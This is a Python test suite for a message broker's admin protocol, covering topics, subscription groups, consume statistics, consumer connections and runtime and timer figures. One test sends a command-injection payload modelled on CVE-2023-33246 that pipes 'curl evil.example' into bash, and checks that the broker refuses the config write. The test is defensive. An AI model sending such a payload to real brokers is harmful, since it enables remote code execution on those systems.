"""The broker's admin codes over real sockets on a real store: topics (create, delete, every
config, queue statistics), subscription groups, consume statistics with MessageQueue object
keys, consumer connections, who consumes a topic, runtime info (with the timer backlog), and
the refused config write."""

from __future__ import annotations

import dataclasses
import json

import pytest

from bench.remoting_raw import RawRemotingClient
from postbox.broker_node.admin import BrokerAdmin, RuntimeStats
from postbox.broker_node.admin.runtime_info import runtime_table
from postbox.broker_node.server.broker import BrokerRemotingServer
from postbox.network.protocol import fastjson
from postbox.network.protocol.codes import RequestCode, ResponseCode
from postbox.storage_engine import Broker, BrokerRole, Message, MessageStore
from postbox.storage_engine.clock import FakeClock
from postbox.storage_engine.formats.fastjson import ObjectKey
from postbox.storage_engine.formats.topic_names import TIMER_TOPIC
from tests.support.small_store import small_store_config

TOPIC_FIELDS = {"defaultTopic": "TBW102", "readQueueNums": 2, "writeQueueNums": 2, "perm": 6,
                "topicFilterType": "SINGLE_TAG", "order": False,
                "attributes": "+message.type=NORMAL"}


@pytest.fixture
def admin(tmp_path):
    clock = FakeClock(1_700_000_000_000)
    with Broker.open(small_store_config(tmp_path / "store"), clock=clock) as broker:
        server = BrokerRemotingServer(broker, stats=RuntimeStats(clock))
        admin = BrokerAdmin.attach(server, "postbox-a")
        server.start()
        try:
            with RawRemotingClient(server.address) as client:
                yield client, broker, admin, clock
        finally:
            server.stop()


def _mq(topic, queue_id, broker_name="postbox-a"):
    return ObjectKey.of(brokerName=broker_name, queueId=queue_id, topic=topic)


def test_create_topic_then_list_and_stats(admin):
    client, broker, _, clock = admin
    assert client.call(RequestCode.UPDATE_AND_CREATE_TOPIC, {"topic": "orders", **TOPIC_FIELDS}
                       ).code == 0
    assert broker.topic_config("orders").write_queue_nums == 2
    for n in range(3):
        clock.advance(1_000)
        broker.send(Message(topic="orders", body=b"m%d" % n), queue_id=1)
    broker.store.wait_dispatched()
    configs = fastjson.loads(client.call(RequestCode.GET_ALL_TOPIC_CONFIG).body)
    assert configs["topicConfigTable"]["orders"]["readQueueNums"] == 2
    assert configs["topicConfigTable"]["TBW102"]["perm"] == 7
    assert configs["dataVersion"]["counter"] >= 1
    stats = fastjson.loads(client.call(RequestCode.GET_TOPIC_STATS_INFO,
                                       {"topic": "orders"}).body)["offsetTable"]
    assert stats[_mq("orders", 0)] == {"lastUpdateTimestamp": 0, "maxOffset": 0,
                                       "minOffset": 0}
    assert stats[_mq("orders", 1)]["maxOffset"] == 3
    assert stats[_mq("orders", 1)]["lastUpdateTimestamp"] == clock.now_ms()
    unknown = client.call(RequestCode.GET_TOPIC_STATS_INFO, {"topic": "nope"})
    assert unknown.code == ResponseCode.TOPIC_NOT_EXIST
    config = json.loads(client.call(351, {"topic": "orders"}).body)  # GET_TOPIC_CONFIG
    assert (config["topicName"], config["perm"], config["readQueueNums"]) == ("orders", 6, 2)
    assert client.call(351, {"topic": "nope"}).code == ResponseCode.TOPIC_NOT_EXIST


def test_create_topic_refuses_what_it_cannot_honour(admin):
    client, broker, _, _ = admin
    uneven = client.call(RequestCode.UPDATE_AND_CREATE_TOPIC,
                         {"topic": "t1", **TOPIC_FIELDS, "writeQueueNums": 4})
    attribute = client.call(RequestCode.UPDATE_AND_CREATE_TOPIC,
                            {"topic": "t2", **TOPIC_FIELDS, "attributes": "+queue.type=X"})
    bad_name = client.call(RequestCode.UPDATE_AND_CREATE_TOPIC, {"topic": "../x", **TOPIC_FIELDS})
    missing = client.call(RequestCode.UPDATE_AND_CREATE_TOPIC, {"topic": "t3"})
    assert uneven.code == ResponseCode.INVALID_PARAMETER and "differ" in uneven.remark
    assert attribute.code == ResponseCode.INVALID_PARAMETER and "queue.type" in attribute.remark
    assert bad_name.code != 0 and "../x" in bad_name.remark
    assert missing.code == ResponseCode.SYSTEM_ERROR and "readQueueNums" in missing.remark
    assert all(broker.topic_config(t) is None for t in ("t1", "t2", "t3"))


def test_delete_topic_forgets_config_and_offsets_but_keeps_messages(admin):
    client, broker, _, _ = admin
    broker.create_topic("gone", 1)
    broker.send(Message(topic="gone", body=b"x"), queue_id=0)
    broker.commit_offset("g1", "gone", 0, 1)
    assert client.call(RequestCode.DELETE_TOPIC_IN_BROKER, {"topic": "gone"}).code == 0
    assert broker.topic_config("gone") is None
    assert broker.query_offset("g1", "gone", 0) is None
    broker.store.wait_dispatched()
    assert broker.store.max_offset("gone", 0) == 1, "the stored message is not deleted"
    delay = client.call(RequestCode.DELETE_TOPIC_IN_BROKER, {"topic": "SCHEDULE_TOPIC_XXXX"})
    assert delay.code == ResponseCode.INVALID_PARAMETER


def test_subscription_groups_created_listed_deleted(admin):
    client, broker, _, _ = admin
    body = json.dumps({"groupName": "billing", "retryMaxTimes": 3, "consumeEnable": True,
                       "consumeTimeoutMinute": 15}).encode()
    assert client.call(RequestCode.UPDATE_AND_CREATE_SUBSCRIPTIONGROUP, {}, body).code == 0
    groups = fastjson.loads(client.call(RequestCode.GET_ALL_SUBSCRIPTIONGROUP_CONFIG).body)
    billing = groups["subscriptionGroupTable"]["billing"]
    assert billing["retryMaxTimes"] == 3 and billing["consumeTimeoutMinute"] == 15
    assert broker.subscription_group("billing").retry_max_times == 3
    for bad in (b"", b"{", json.dumps({"groupName": "a/b"}).encode(),
                json.dumps({"groupName": "x", "retryMaxTimes": "many"}).encode()):
        answer = client.call(RequestCode.UPDATE_AND_CREATE_SUBSCRIPTIONGROUP, {}, bad)
        assert answer.code == ResponseCode.INVALID_PARAMETER, bad
    assert client.call(RequestCode.DELETE_SUBSCRIPTIONGROUP, {"groupName": "billing"}).code == 0
    assert broker.tables.subscription_groups.get("billing") is None


def test_groups_known_only_from_offsets_are_listed_with_default_settings(admin):
    client, broker, _, _ = admin
    broker.create_topic("orders", 1)
    broker.commit_offset("auditors", "orders", 0, 0)  # no config, no member: only an offset
    table = fastjson.loads(client.call(RequestCode.GET_ALL_SUBSCRIPTIONGROUP_CONFIG).body)[
        "subscriptionGroupTable"]
    assert "auditors" in table and table["auditors"]["groupName"] == "auditors"
    assert table["auditors"]["retryMaxTimes"] == 16
    assert broker.tables.subscription_groups.get("auditors") is None  # listing creates nothing


def test_consume_stats_are_keyed_by_message_queue_objects(admin):
    client, broker, _, clock = admin
    broker.create_topic("orders", 2)
    for _ in range(4):
        clock.advance(10)
        broker.send(Message(topic="orders", body=b"x"), queue_id=0)
    broker.store.wait_dispatched()
    broker.commit_offset("billing", "orders", 0, 3)
    answer = client.call(RequestCode.GET_CONSUME_STATS, {"consumerGroup": "billing"})
    assert answer.code == 0
    assert b'{{"brokerName":"postbox-a","queueId":0,"topic":"orders"}:{' in answer.body
    table = fastjson.loads(answer.body)["offsetTable"]
    third = broker.store.get_message("billing", "orders", 0, 2, 1).messages[0]
    assert table[_mq("orders", 0)] == {"brokerOffset": 4, "consumerOffset": 3,
                                       "lastTimestamp": third.store_timestamp_ms,
                                       "pullOffset": 3}
    assert table[_mq("orders", 1)]["consumerOffset"] == 0
    only = fastjson.loads(client.call(RequestCode.GET_CONSUME_STATS,
                                      {"consumerGroup": "billing", "topic": "nope"}).body)
    assert only["offsetTable"] == {}


def _heartbeat(client_id, group, topic, model="CLUSTERING"):
    return json.dumps({"clientID": client_id, "consumerDataSet": [{
        "groupName": group, "consumeType": "CONSUME_ACTIVELY", "messageModel": model,
        "consumeFromWhere": "CONSUME_FROM_FIRST_OFFSET", "unitMode": False,
        "subscriptionDataSet": [{"topic": topic, "subString": "*", "tagsSet": [],
                                 "codeSet": [], "subVersion": 1, "expressionType": "TAG"}]}],
        "producerDataSet": []}).encode()


def test_consumer_connections_and_who_consumes(admin):
    client, broker, _, _ = admin
    offline = client.call(RequestCode.GET_CONSUMER_CONNECTION_LIST, {"consumerGroup": "billing"})
    assert offline.code == ResponseCode.CONSUMER_NOT_ONLINE
    broker.create_topic("orders", 1)
    assert client.call(RequestCode.HEART_BEAT, {},
                       _heartbeat("10.0.0.5@1", "billing", "orders", "BROADCASTING")).code == 0
    broker.register_consumer("billing", "10.0.0.6@2", ["orders"])  # a member known otherwise
    answer = client.call(RequestCode.GET_CONSUMER_CONNECTION_LIST, {"consumerGroup": "billing"})
    view = json.loads(answer.body)
    assert [c["clientId"] for c in view["connectionSet"]] == ["10.0.0.5@1", "10.0.0.6@2"]
    own = view["connectionSet"][0]
    assert own["clientAddr"] == "{}:{}".format(*client.sock.getsockname())
    assert (own["language"], own["version"]) == ("JAVA", 479)
    assert view["connectionSet"][1]["clientAddr"] == "?"
    assert view["messageModel"] == "BROADCASTING"
    assert view["consumeFromWhere"] == "CONSUME_FROM_FIRST_OFFSET"
    assert view["subscriptionTable"]["orders"]["subString"] == "*"
    broker.commit_offset("audit", "orders", 0, 0)
    groups = json.loads(client.call(RequestCode.QUERY_TOPIC_CONSUME_BY_WHO,
                                    {"topic": "orders"}).body)
    assert groups == {"groupList": ["audit", "billing"]}
    assert client.call(RequestCode.UNREGISTER_CLIENT, {"clientID": "10.0.0.5@1",
                                                       "consumerGroup": "billing"}).code == 0
    broker.unregister_consumer("billing", "10.0.0.6@2")
    gone = client.call(RequestCode.GET_CONSUMER_CONNECTION_LIST, {"consumerGroup": "billing"})
    assert gone.code == ResponseCode.CONSUMER_NOT_ONLINE


def test_runtime_info_has_the_keys_cluster_list_reads(admin):
    client, broker, _, clock = admin
    for _ in range(3):
        assert client.call(RequestCode.SEND_MESSAGE_V2, {
            "a": "PG", "b": "orders", "c": "TBW102", "d": 4, "e": 0, "f": 0, "g": 0, "h": 0,
            "i": "", "j": 0, "k": False, "m": False}, b"x").code == 0
    broker.store.wait_dispatched()
    clock.advance(5_000)
    pulled = client.call(RequestCode.PULL_MESSAGE, {
        "consumerGroup": "billing", "topic": "orders", "queueId": 0, "queueOffset": 0,
        "maxMsgNums": 2, "sysFlag": 4, "commitOffset": 0, "suspendTimeoutMillis": 0,
        "subVersion": 0, "subscription": "*", "expressionType": "TAG"})
    assert pulled.code == 0
    table = json.loads(client.call(RequestCode.GET_BROKER_RUNTIME_INFO).body)["table"]
    for key in ("brokerVersionDesc", "msgPutTotalTodayNow", "msgGetTotalTodayNow",
                "msgPutTotalTodayMorning", "msgGetTotalTodayMorning",
                "msgPutTotalYesterdayMorning", "msgGetTotalYesterdayMorning", "putTps",
                "getTransferredTps", "commitLogDiskRatio", "earliestMessageTimeStamp",
                "pageCacheLockTimeMills", "sendThreadPoolQueueSize", "pullThreadPoolQueueSize",
                "sendThreadPoolQueueHeadWaitTimeMills", "pullThreadPoolQueueHeadWaitTimeMills",
                "brokerActive", "timerReadBehind", "timerOffsetBehind", "timerCongestNum",
                "timerEnqueueTps", "timerDequeueTps"):
        assert isinstance(table[key], str), key
    assert table["msgPutTotalTodayNow"] == "3"
    assert table["msgGetTotalTodayNow"] == "2"
    assert float(table["putTps"].split()[0]) == pytest.approx(0.6)  # 3 in the last 5 s
    assert 0.0 <= float(table["commitLogDiskRatio"]) <= 1.0
    assert int(table["earliestMessageTimeStamp"]) > 0
    assert table["brokerActive"] == "true"


def test_day_rollover_moves_totals_to_the_morning_keys(admin):
    client, _, admin_, clock = admin
    admin_.stats.record_put(7)
    clock.advance(86_400_000)
    admin_.stats.record_put(2)
    table = json.loads(client.call(RequestCode.GET_BROKER_RUNTIME_INFO).body)["table"]
    assert (table["msgPutTotalYesterdayMorning"], table["msgPutTotalTodayMorning"],
            table["msgPutTotalTodayNow"]) == ("0", "7", "9")


def test_broker_config_write_is_refused(admin):
    client, _, _, _ = admin
    answer = client.call(RequestCode.UPDATE_BROKER_CONFIG, {},
                         b"rocketmqHome=-c $@|sh . echo curl evil.example|bash")
    assert answer.code == ResponseCode.NO_PERMISSION and "CVE-2023-33246" in answer.remark


def test_the_runtime_table_reports_the_timer_backlog(tmp_path):
    """``timerOffsetBehind``, ``timerReadBehind``, ``timerCongestNum``, the enqueue and dequeue
    rates and Postbox's timer counts, with the timer service driven by hand on a fake clock."""
    start_ms = 1_700_000_000_000
    clock = FakeClock(start_ms)
    store = MessageStore.open(small_store_config(tmp_path / "store"), clock=clock)
    with Broker(store, clock=clock, owns_store=True, start_services=False) as broker:
        stats, timers = RuntimeStats(clock), broker.timer_service

        def figures() -> tuple[str, ...]:
            table = runtime_table(broker, stats)
            return tuple(table[key] for key in (
                "timerOffsetBehind", "timerReadBehind", "postboxTimerPending",
                "postboxTimerDelivered", "timerCongestNum", "timerEnqueueTps", "timerDequeueTps"))

        for delay_ms in (1_000, 10_000):
            broker.send(Message("orders", b"timed", properties={
                "TIMER_DELIVER_MS": str(start_ms + delay_ms)}))
        assert store.wait_dispatched()
        assert figures() == ("2", "0", "0", "0", "0", "0.00", "0.00")  # not read into the wheel
        clock.advance(500)
        timers.run_once(clock.now_ms())
        assert figures() == ("0", "0", "2", "0", "2", "4.00", "0.00")  # 2 appended in 0.5 s
        clock.advance(1_500)
        timers.run_once(clock.now_ms())
        assert figures() == ("0", "0", "1", "1", "1", "1.00", "0.50")  # since the start, 2 s
        clock.advance(13_000)  # the second is 5 s overdue: no pass ran since
        assert figures() == ("0", "5", "1", "1", "1", "0.00", "0.00")  # nothing in the last 10 s


def test_a_slave_reports_no_timer_backlog(tmp_path):
    """A slave's timer records come by replication and are delivered by its master."""
    config, clock = small_store_config(tmp_path / "store"), FakeClock(1_700_000_000_000)
    with Broker.open(config, clock=clock) as master:  # timer records in the store's files
        for _ in range(2):
            master.send(Message("orders", b"timed", properties={
                "TIMER_DELIVER_MS": str(clock.now_ms() + 60_000)}))
    config = dataclasses.replace(config, broker_role=BrokerRole.SLAVE)
    with Broker.open(config, clock=clock) as broker:
        assert broker.store.queues.get(TIMER_TOPIC, 0).max_offset == 2
        table = runtime_table(broker, RuntimeStats(clock))
    assert [table[key] for key in ("timerOffsetBehind", "timerReadBehind", "timerCongestNum",
                                   "timerEnqueueTps", "timerDequeueTps", "postboxTimerPending",
                                   "postboxTimerDelivered")] == ["0"] * 7
    assert table["postboxServicesFailed"] == ""
